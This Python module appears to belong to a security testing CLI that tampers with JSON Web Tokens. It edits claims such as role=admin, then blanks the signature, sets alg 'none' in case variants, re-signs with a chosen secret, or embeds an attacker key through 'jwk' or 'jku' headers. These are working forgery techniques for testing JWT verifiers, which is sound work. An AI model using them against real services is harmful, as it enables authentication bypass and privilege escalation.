"""`authcli tamper`'s work, as data: a token edited the way attackers edit one, and what changed.

The edits go through jsonedit, so what is not touched keeps its bytes (the other segment's
base64url text, and in an edited segment every other member's text and place). Then the
signature: kept (a verifier must notice), blanked, dropped with `alg: none` in any case
variant, or made anew over the exact bytes sent (forge.signature: HMAC with any secret, or
PyJWT's algorithms with a private key), with the attacker's key embedded (`jwk`) or named by URL
(`jku`). Nothing here prints; the CLI shows `describe()`'s lines, escaped.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

from authcli.encoding import b64url, is_text, unb64url
from authcli.errors import BadKey, UsageError
from authcli.tokens.forge import edited_segment, signature
from authcli.tokens.keys import HMAC_ALGS, RSA_ALGS, SigningKey, _public_key_algs
from authcli.tokens.parse import TokenParts, json_object, split

SIGNING_ALGS = (*HMAC_ALGS, *RSA_ALGS, "ES256", "ES384", "ES512", "EdDSA")
# The header members each way of signing writes itself: editing them too would say two things.
WRITES = {"keep": (), "blank": (), "none": ("alg",), "sign": ("alg",), "jwk": ("alg", "jwk"),
          "jku": ("alg", "jku", "kid")}
MISSING = object()  # a member that is not there (before an addition, after a deletion)
SHOWN = 60  # characters of a value a diff line shows


@dataclass(frozen=True)
class Edits:
    """What to change: claims (payload) and header members to set, and names to delete."""

    claims: dict[str, Any] = field(default_factory=dict)
    drop_claims: tuple[str, ...] = ()
    header: dict[str, Any] = field(default_factory=dict)
    drop_header: tuple[str, ...] = ()


@dataclass(frozen=True)
class Signing:
    """What happens to the signature: keep, blank, none, sign, jwk (key in the header) or jku."""

    mode: str = "keep"
    alg: str | None = None      # the header's new alg: a none variant, or the signing algorithm
    key: Any = None             # an HMAC secret (bytes) or a private key (cryptography's object)
    what: str = ""              # the key, in a few words
    jwk: dict[str, Any] | None = None   # the public JWK to embed (jwk), or the key set's one (jku)
    jku: str | None = None

    def header(self) -> dict[str, Any]:
        values = {"alg": self.alg, "jwk": self.jwk, "jku": self.jku,
                  "kid": self.jwk.get("kid") if self.jwk else None}
        return {name: values[name] for name in WRITES[self.mode]}


@dataclass(frozen=True)
class Change:
    """One member that changed: in the header or the payload, its value before and after
    (MISSING: not there)."""

    part: str
    name: str
    before: Any
    after: Any


@dataclass(frozen=True)
class Tampered:
    """The new token, each change it carries, what became of the signature, and for jku the key
    set the URL must serve."""

    token: str
    changes: tuple[Change, ...]
    signature: str
    jwks: dict[str, Any] | None = None


def _no_constants(name: str) -> Any:
    raise ValueError(name)  # NaN and Infinity are not JSON: such a value stays a string


def assignment(text: str, option: str) -> tuple[str, Any]:
    """NAME=VALUE, VALUE read as JSON when it is JSON (1, true, null, "1", [1,2], {"a":1}),
    else taken as a string. The name is everything before the first `=`."""
    name, sep, raw = text.partition("=")
    if not sep or not name:
        raise UsageError(f"{option} takes NAME=VALUE (such as role=admin or sub=1), not {text[:60]!r}")
    try:
        value = json.loads(raw, parse_constant=_no_constants)
    except ValueError:
        value = raw
    except RecursionError:
        raise UsageError(f"{option} {name[:40]}: the value is nested too deeply") from None
    if isinstance(value, float) and value in (float("inf"), float("-inf")):
        raise UsageError(f"{option} {name[:40]}: {raw[:40]} is too large for a JSON number read as a "
                         "float; write it as a whole number")
    if not is_text(value):
        raise UsageError(f"{option} {name[:40]}: the value holds an escaped lone surrogate (\\ud800...), "
                         "which is not text")
    return name, value


def edits(sets: list[str], drops: list[str], header_sets: list[str], header_drops: list[str]) -> Edits:
    """The edits from the command line; a name both set and deleted is a usage error."""
    claims = dict(assignment(s, "--set") for s in sets)
    header = dict(assignment(s, "--header") for s in header_sets)
    for given, dropped, what in ((claims, drops, "--set and --del"), (header, header_drops, "--header and --header-del")):
        both = [n for n in dropped if n in given]
        if both:
            raise UsageError(f"{what} both name {both[0][:40]!r}: give one")
    return Edits(claims, tuple(drops), header, tuple(header_drops))


def is_none(alg: str | None) -> bool:
    return isinstance(alg, str) and alg.lower() == "none"


def tamper(token: str, change: Edits, how: Signing) -> Tampered:
    """The token with `change` made and signed `how`. MalformedToken for what is not a JWT;
    UsageError for an edit that cannot be made."""
    parts = split(token)
    _check_overlap(parts, change, how)
    header_b64 = _edit(parts.header_b64, "header", {**change.header, **how.header()}, change.drop_header)
    payload_b64 = _edit(parts.payload_b64, "payload", change.claims, change.drop_claims)
    head = f"{header_b64}.{payload_b64}"
    header = json_object(unb64url(header_b64), "header")
    payload = json_object(unb64url(payload_b64), "payload")
    changes = (*_changes("header", parts.header, header), *_changes("payload", parts.payload, payload))
    sig, said = _signature(how, parts, head, bool(changes))
    return Tampered(f"{head}.{sig}", changes, said, {"keys": [how.jwk]} if how.mode == "jku" else None)


def _check_overlap(parts: TokenParts, change: Edits, how: Signing) -> None:
    writes = WRITES[how.mode]
    clash = [n for n in (*change.header, *change.drop_header) if n in writes]
    if clash:
        raise UsageError(f"--header {clash[0]} and the signing options both set {clash[0]}: give one "
                         f"(the {'--alg' if clash[0] == 'alg' else '--' + how.mode} option writes it)")
    for names, have, what in ((change.drop_claims, parts.payload, "--del"), (change.drop_header, parts.header, "--header-del")):
        absent = [n for n in names if n not in have]
        if absent:
            raise UsageError(f"{what} {absent[0][:40]!r}: the token has no such member "
                             f"(it has {', '.join(list(have)[:12]) or 'none'})")


def _edit(segment: str, part: str, sets: dict[str, Any], drops: tuple[str, ...]) -> str:
    try:
        return edited_segment(segment, unb64url(segment), sets, drops)
    except (ValueError, RecursionError):
        raise UsageError(f"the {part} cannot hold that value (not finite, or nested too deeply)") from None


def _changes(part: str, before: dict[str, Any], after: dict[str, Any]) -> list[Change]:
    names = list(dict.fromkeys([*before, *after]))
    return [Change(part, n, before.get(n, MISSING), after.get(n, MISSING)) for n in names
            if _json(before.get(n, MISSING)) != _json(after.get(n, MISSING))]


def _json(value: Any) -> str:
    return "" if value is MISSING else json.dumps(value, sort_keys=True)


def _signature(how: Signing, parts: TokenParts, head: str, changed: bool) -> tuple[str, str]:
    """The new signature segment and a sentence saying what became of it."""
    if how.mode == "keep":
        if not changed:
            return parts.signature_b64, "kept: nothing it covers changed"
        return parts.signature_b64, ("kept: the old signature, made over the old header and payload, so "
                                     "a verifier that checks it finds it does not match")
    if how.mode == "blank":
        return "", f"blanked: empty, while the header still says alg {_shown(parts.header.get('alg', MISSING))}"
    if how.mode == "none":
        return "", f"blanked: alg {json.dumps(how.alg)} says the token is unsigned"
    sig = b64url(signature(how.alg, how.key, head))
    if how.mode == "jwk":
        return sig, (f"re-signed with {how.alg} by {how.what}, whose public half is now in the jwk header "
                     "(CVE-2018-0114): a server that takes the key from the token accepts anything")
    if how.mode == "jku":
        return sig, f"re-signed with {how.alg} by {how.what}; its key set must be served at {how.jku}"
    return sig, f"re-signed with {how.alg} by {how.what}"


def _shown(value: Any) -> str:
    if value is MISSING:
        return "(none)"
    text = json.dumps(value, ensure_ascii=False)
    return text if len(text) <= SHOWN else text[:SHOWN - 3] + "..."


def describe(result: Tampered) -> list[str]:
    """The short diff, one line a change, then the signature: plain text, not yet escaped."""
    lines = []
    for c in result.changes:
        if c.before is MISSING:
            lines.append(f"+ {c.part} {c.name}: {_shown(c.after)}")
        elif c.after is MISSING:
            lines.append(f"- {c.part} {c.name}: {_shown(c.before)}")
        else:
            lines.append(f"~ {c.part} {c.name}: {_shown(c.before)} -> {_shown(c.after)}")
    return [*lines, f"signature: {result.signature}"]


def signing(token_alg: Any, *, alg: str | None = None, secret: bytes | None = None, key: bytes | None = None,
            blank: bool = False, embed_jwk: bool = False, jku: str | None = None) -> Signing:
    """How to sign, from the options: at most one way; `key` is a key file's bytes (the
    attacker's own key for --embed-jwk and --jku, which make one when none is given)."""
    if alg is not None and not is_none(alg) and alg not in SIGNING_ALGS:
        raise UsageError(f"unknown algorithm {alg[:20]!r}: HS256/384/512 with --secret; RS*, PS*, ES256/384/512 "
                         "or EdDSA with --key; none (in any case: none, None, NONE, nOnE) for unsigned")
    modes = [name for name, given in (("--alg none", is_none(alg)), ("--blank-sig", blank), ("--secret", secret is not None),
                                       ("--embed-jwk", embed_jwk), ("--jku", jku is not None)) if given]
    if key is not None and not (embed_jwk or jku is not None):
        modes.append("--key")
    if len(modes) > 1:
        raise UsageError(f"{' and '.join(modes)} are different ways to sign: give one")
    if is_none(alg):
        return Signing("none", alg)
    if blank:
        if alg is not None:
            raise UsageError("--blank-sig keeps the header's alg; to change it too, use --header alg=...")
        return Signing("blank")
    if embed_jwk or jku is not None:
        return _attacker(alg, key, jku)
    if secret is not None:
        return _hmac(token_alg, alg, secret)
    if key is not None:
        return _private(token_alg, alg, key)
    if alg is not None:
        raise UsageError(f"--alg {alg} signs: give --secret or --key too (or --header alg={alg} to change "
                         "the header alone and keep the old signature)")
    return Signing("keep")


def _hmac(token_alg: Any, alg: str | None, secret: bytes) -> Signing:
    chosen = alg or (token_alg if token_alg in HMAC_ALGS else "HS256")
    if chosen not in HMAC_ALGS:
        raise UsageError(f"a shared secret signs HS256, HS384 or HS512, not {chosen}: give --key for {chosen}")
    what = f"an HMAC secret of {len(secret)} bytes" if secret else "an empty HMAC secret (0 bytes)"
    return Signing("sign", chosen, secret, what)


def _private(token_alg: Any, alg: str | None, data: bytes) -> Signing:
    from authcli.tokens.signing import from_private, load_signing_key

    loaded = load_signing_key(data, alg)
    if loaded.secret is not None:  # a JWK of kty oct: a shared secret in a key file
        return _hmac(token_alg, alg, loaded.secret)
    if alg is None and token_alg in _public_key_algs(loaded.private) and token_alg != loaded.alg:
        loaded = from_private(loaded.private, token_alg)  # the token's own alg, when the key can sign it
    return Signing("sign", loaded.alg, loaded.private, f"the private key given ({_kty(loaded)})")


def _kty(key: SigningKey) -> str:
    return (key.jwks or {"keys": [{}]})["keys"][0].get("kty", "?")


def _attacker(alg: str | None, data: bytes | None, jku: str | None) -> Signing:
    """The attacker's key pair (given, or made now) and its public JWK, for the header or a key set."""
    from authcli.tokens.signing import from_private, load_signing_key, make_signing_key

    if alg in HMAC_ALGS:
        raise UsageError(f"--{'jku' if jku is not None else 'embed-jwk'} publishes a public key: "
                         "use RS256, PS256, ES256 or EdDSA, not an HMAC secret")
    if data is not None:
        key = load_signing_key(data, alg)
        if key.secret is not None:
            raise UsageError("the key file holds a shared secret; a public key can be published, a secret cannot")
        what = f"the private key given ({_kty(key)})"
    else:
        base = "RS256" if alg is None or alg[:2] in ("RS", "PS") else alg
        try:
            key = from_private(make_signing_key(base).private, alg or base)
        except BadKey as err:
            raise UsageError(f"{err}; give --key for this algorithm") from None
        what = f"a new {_kty(key)} key pair"
    jwk = key.jwks["keys"][0]
    if jku is not None:
        _check_url(jku)
        return Signing("jku", key.alg, key.private, what, jwk, jku)
    return Signing("jwk", key.alg, key.private, what, jwk)


def _check_url(url: str) -> None:
    from urllib.parse import urlsplit

    try:
        scheme = urlsplit(url).scheme
    except ValueError:
        scheme = ""
    if scheme not in ("http", "https") or any(c.isspace() or ord(c) < 32 for c in url):
        raise UsageError(f"--jku takes an http:// or https:// URL, not {url[:60]!r}")

